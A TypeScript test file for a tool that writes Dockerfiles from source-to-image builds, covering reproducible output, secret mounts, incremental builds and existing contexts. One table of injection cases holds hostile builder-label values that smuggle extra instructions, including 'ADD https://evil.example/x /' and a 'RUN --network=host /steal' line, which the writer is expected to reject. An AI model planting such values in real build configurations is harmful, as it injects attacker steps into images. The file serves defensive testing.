import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { assembleImage } from '@galley/image/assemble/assemble-image';
import { openLayoutStore } from '@galley/image/layout-store';
import type { ImageStore } from '@galley/image/store';
import { plainRequest } from './under-test/request.ts';
import { writeDockerfile, type DockerfileRequest } from './write-dockerfile.ts';

let folder: string;
let store: ImageStore;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'galley-dockerfile-'));
  store = await openLayoutStore(join(folder, 'store'));
  mkdirSync(join(folder, 'source/.s2i/bin'), { recursive: true });
  writeFileSync(join(folder, 'source/app.py'), 'print(1)\n');
  writeFileSync(join(folder, 'source/.s2i/bin/run'), '#!/bin/sh\r\nexec python app.py\r\n');
  writeFileSync(join(folder, 'source/.s2i/environment'), 'A=$HOME "quoted"\n');
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function request(more: Partial<DockerfileRequest> = {}): DockerfileRequest {
  const builder = { name: 'centos/python-36-centos7', image: undefined };
  return {
    ...plainRequest(join(folder, 'source'), builder, folder),
    env: [['B', 'b']],
    description: 'An application',
    sourceName: '/somewhere',
    ...more,
  };
}

async function write(name: string, more: Partial<DockerfileRequest> = {}): Promise<string> {
  rmSync(join(folder, name), { recursive: true, force: true });
  mkdirSync(join(folder, name));
  const path = join(folder, name, 'Dockerfile');
  const warnings = await writeDockerfile(request(more), {
    path,
    imageScriptsUrl: 'image:///usr/libexec/s2i',
    workDir: join(folder, 'work'),
    context: { store, cacheDir: join(folder, 'cache'), signal: new AbortController().signal },
  });
  expect(warnings).toEqual(['centos/python-36-centos7 is not here: its user is taken to be 1001']);
  return readFileSync(path, 'utf8').replace(/sha256:[0-9a-f]{64}/, 'DIGEST');
}

test('a build is written as a Dockerfile with its context, the same each time', async () => {
  const text = await write('plain');
  expect(text).toMatchInlineSnapshot(`
    "# syntax=docker/dockerfile:1
    FROM centos/python-36-centos7
    LABEL \\
        "dev.galley.kind"="s2i" \\
        "dev.galley.reproducible"="false" \\
        "dev.galley.source"="DIGEST" \\
        "io.k8s.description"="An application" \\
        "io.k8s.display-name"="team/app:v1" \\
        "io.openshift.s2i.build.image"="centos/python-36-centos7" \\
        "io.openshift.s2i.build.source-location"="/somewhere"
    ENV \\
        A="\\$HOME \\"quoted\\"" \\
        B="b"
    COPY --chown=1001:0 upload/scripts /tmp/scripts
    COPY --chown=1001:0 upload/src /tmp/src
    USER 1001
    RUN /usr/libexec/s2i/assemble
    CMD ["/tmp/scripts/run"]
    "
  `);
  expect(await write('again')).toBe(text);
  const written = readdirSync(join(folder, 'plain/upload'), { recursive: true, encoding: 'utf8' });
  expect(new Set(written)).toEqual(
    new Set(['scripts', 'scripts/run', 'src', 'src/.s2i', 'src/.s2i/environment', 'src/app.py']),
  );
  expect(readFileSync(join(folder, 'plain/upload/scripts/run'), 'utf8')).toBe(
    '#!/bin/sh\nexec python app.py\n',
  );
  expect(statSync(join(folder, 'plain/upload/scripts/run')).mode & 0o777).toBe(0o755);
});

test('what is injected is a secret of the one instruction, neither a layer nor in the context', async () => {
  const content = Buffer.from('the-token-itself');
  const text = await write('secrets', { injections: [{ path: '/etc/pip.conf', content }] });
  expect(text).toContain('# build it with --secret id=injected-0,src=FILE for /etc/pip.conf');
  expect(text).toMatch(
    /RUN \\\n {4}--mount=type=secret,id=injected-0,target=\/etc\/pip\.conf,mode=0444 \\\n {4}\/usr\/libexec\/s2i\/assemble/,
  );
  expect(text).not.toContain('the-token-itself');
  expect(existsSync(join(folder, 'secrets/upload/injections'))).toBe(false);
});

test('an incremental build takes the artifacts of the image before in a stage of its own', async () => {
  const text = await write('incremental', { incremental: true, destination: '/opt/s2i' });
  expect(text).toContain('FROM team/app:v1 AS saved');
  expect(text).toContain('COPY --chown=1001:0 --from=saved /tmp/artifacts /opt/s2i/artifacts');
  expect(text).toContain('CMD ["/opt/s2i/scripts/run"]');
});

test.each([
  ['io.openshift.s2i.destination', '/tmp\nRUN --network=host /steal'],
  ['io.openshift.s2i.destination', '/tmp --from=other'],
  ['io.openshift.s2i.assemble-user', '1001\nADD https://evil.example/x /'],
  ['io.openshift.s2i.scripts-url', 'image:///x;/steal'],
])('the label %s of a builder, %j, adds no instruction', async (label, value) => {
  const labels = { 'io.openshift.s2i.scripts-url': 'image:///usr/libexec/s2i', [label]: value };
  const image = await assembleImage(store, { layers: [], config: { Labels: labels } });
  await expect(write('hostile', { builder: { name: 'hostile', image } })).rejects.toMatchObject({
    code: 'BUILDER_INVALID',
    message: expect.stringContaining('cannot be said in a Dockerfile'),
  });
});

test('a context that is there already is left alone', async () => {
  await write('taken');
  await expect(
    writeDockerfile(request(), {
      path: join(folder, 'taken/Other'),
      imageScriptsUrl: 'image:///x',
      workDir: join(folder, 'work'),
      context: { store, cacheDir: join(folder, 'cache'), signal: new AbortController().signal },
    }),
  ).rejects.toMatchObject({ code: 'EXPORT_EXISTS' });
});
